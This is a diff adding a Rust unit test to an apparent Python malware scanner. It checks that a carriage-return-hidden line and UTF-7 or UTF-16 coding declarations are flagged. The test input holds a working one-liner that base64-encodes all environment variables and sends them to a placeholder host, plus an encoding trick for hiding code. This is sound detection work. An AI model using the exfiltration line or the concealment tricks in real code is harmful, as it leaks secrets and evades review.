@@ -882,3 +882,36 @@ fn m4_in_a_legacy_bootstrap_script_is_medium() {
         Severity::High
     );
 }
+
+#[test]
+fn a_lone_carriage_return_ends_a_line_and_foreign_codings_are_flagged() {
+    // Python runs the second statement; tree-sitter alone would see one comment line
+    let cr = "# x\rimport os, base64, urllib.request\rurllib.request.urlopen('http://c.invalid/?' + base64.b64encode(str(os.environ).encode()).decode())\r";
+    let s = scan(cr);
+    assert!(
+        s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
+        "{:#?}",
+        s.findings
+    );
+    for (src, codec) in [
+        ("# -*- coding: utf-7 -*-\n#+AAo-import os\n", Some("utf-7")),
+        (
+            "#!/usr/bin/env python\n# vim: set fileencoding=UTF_16 :\n",
+            Some("utf-16"),
+        ),
+        ("# -*- coding: utf-8 -*-\nx = 1\n", None),
+        ("# coding=latin-1\nx = 1\n", None),
+        ("x = 1\n# coding: utf-7\n", Some("utf-7")),
+        ("x = 1\ny = 2\n# coding: utf-7\n", None),
+    ] {
+        assert_eq!(super::foreign_coding(src).as_deref(), codec, "{src:?}");
+    }
+    let s = scan("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
+    assert!(
+        s.findings
+            .iter()
+            .any(|f| f.rule == Rule::Obfuscation && f.severity == Severity::High),
+        "{:#?}",
+        s.findings
+    );
+}
